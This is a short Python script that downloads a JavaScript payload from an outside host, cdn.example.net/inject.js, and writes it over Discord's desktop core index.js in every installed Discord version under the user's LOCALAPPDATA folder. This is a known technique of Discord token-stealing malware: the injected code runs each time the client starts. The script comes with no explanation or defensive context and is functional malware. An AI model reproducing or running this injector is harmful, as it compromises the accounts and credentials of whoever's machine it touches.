import glob
import os
import urllib.request

payload = urllib.request.urlopen("https://cdn.example.net/inject.js").read().decode()
for core in glob.glob(os.path.join(os.environ["LOCALAPPDATA"], "Discord", "app-*", "modules", "discord_desktop_core-*", "discord_desktop_core", "index.js")):
    with open(core, "w") as f:
        f.write(payload)
